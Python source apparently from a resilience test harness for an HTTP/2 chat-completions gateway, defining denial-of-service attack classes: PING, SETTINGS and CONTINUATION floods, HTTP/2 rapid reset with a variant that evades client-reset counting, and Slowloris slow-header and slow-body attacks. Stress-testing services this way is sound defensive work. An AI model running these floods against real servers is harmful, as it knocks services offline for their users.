"""Frames by the million, and bytes by the second."""

from attack import Attack
from crowd import Crowd, Member
from wire import (
    ACK,
    CONTINUATION,
    END_HEADERS,
    FRAME,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    WINDOW_UPDATE,
    chat,
    frame,
    head,
    post,
    request,
    settings,
)

CHAT = "/v1/chat/completions"
# What is written at once.
BATCH = 64 << 10


class Flood(Attack):
    """Some connections that send the same frames again and again, as fast as they are taken."""

    seconds = (3, 20)
    # Of connections; every second one reads what it is answered.
    SIZE = (4, 16)

    def first(self) -> bytes:
        """Begins with a request, which is refused: a connection that is asked nothing would soon be closed for that."""
        return PREFACE + settings() + request(1, head("GET", "/nothing/is/here"))

    def more(self, member: Member) -> bytes:
        raise NotImplementedError

    def prepare(self):
        self.crowd = Crowd(self.port, self.some(*self.SIZE), self.first, reads=None)

    def run(self, deadline: float):
        self.crowd.keep(deadline, self.more)
        self.notes["told"] = self.crowd.told()

    def leave(self):
        self.crowd.leave()


class Pings(Flood):
    """PING after PING, each of which is to be answered. Answers that nobody reads pile up where none waits for room."""

    name = "floods.ping"

    def prepare(self):
        super().prepare()
        self.batch = frame(PING, 0, 0, b"attacker") * (BATCH // 17)

    def more(self, member: Member):
        return self.batch


class Settings(Flood):
    """SETTINGS after SETTINGS: each is to be acknowledged, and each may change what all streams are held to."""

    name = "floods.settings"

    def prepare(self):
        super().prepare()
        one = b"".join(settings({4: 65535 + at}) for at in range(64))
        self.batch = (one + frame(PING, ACK, 0, b"attacker")) * (BATCH // (15 * 64 + 17))

    def more(self, member: Member):
        return self.batch


class Continuations(Flood):
    """A head that never ends: CONTINUATION after CONTINUATION. Whoever keeps them all to read them at the end, keeps all."""

    name = "floods.continuation"

    def prepare(self):
        super().prepare()
        # A header without a name in any table, its value as long as a frame allows.
        value = b"a" * (FRAME - 16)
        literal = b"\x00\x01x\x7f" + varint(len(value) - 127) + value
        self.start = frame(HEADERS, 0, 3, head("POST", CHAT))
        self.batch = frame(CONTINUATION, 0, 3, literal) * (BATCH // FRAME) + frame(CONTINUATION, 0, 3) * 64

    def first(self):
        return super().first() + self.start

    def more(self, member: Member):
        return self.batch


class Resets(Flood):
    """Rapid reset: requests that are taken back as soon as they are sent, so that no limit of streams is ever reached.

    Each is begun here all the same. Every second one is taken back by making the gateway do it, with a window that is
    raised by nothing: then it is the gateway that resets, which a count of the client's resets does not see.
    """

    name = "floods.reset"

    def prepare(self):
        super().prepare()
        self.block, self.body = head("POST", CHAT), post(CHAT, chat("where is my parcel")).partition(b"\r\n\r\n")[2]

    def more(self, member: Member):
        begin = 3 + member.count
        member.count += 400
        frames = []
        for at in range(begin, begin + 400, 2):
            by_client = at % 4 == 3
            taken_back = (RST_STREAM, 0, at, (8).to_bytes(4)) if by_client else (WINDOW_UPDATE, 0, at, bytes(4))
            frames += [request(at, self.block, self.body), frame(*taken_back)]
        return b"".join(frames)


class SlowHeads(Attack):
    """Slowloris: connections that send a head a byte at a time, and never end it. Each holds its place for as long."""

    name = "slow.heads"
    keys = {"limits.requests": "256", "limits.requests_per_address": "64", "limits.connections": "1024"}
    seconds = (5, 30)
    START = f"POST {CHAT} HTTP/1.1\r\nhost: x\r\nx-slow: ".encode()

    def prepare(self):
        self.crowd = Crowd(self.port, self.some(300, 900), lambda: self.START, reads=True)

    def run(self, deadline: float):
        self.crowd.keep(deadline, lambda _: b"a", every=0.5)
        self.notes["told"] = self.crowd.told()

    def leave(self):
        self.crowd.leave()


class SlowBodies(SlowHeads):
    """The same with bodies: a long one is announced, and comes a byte at a time. Each is a request in flight meanwhile.

    There are more of them than requests may be in flight, all from one address, of which the configuration allows
    fewer: if the first ones in keep all places, nobody else is served.
    """

    name = "slow.bodies"
    START = f"POST {CHAT} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 100000\r\n\r\n".encode()


def varint(value: int) -> bytes:
    """The rest of an integer of HPACK, after its prefix."""
    out = b""
    while value >= 128:
        out += bytes([value % 128 + 128])
        value //= 128
    return out + bytes([value])


FLOODS, SLOW = [Pings, Settings, Continuations, Resets], [SlowHeads, SlowBodies]
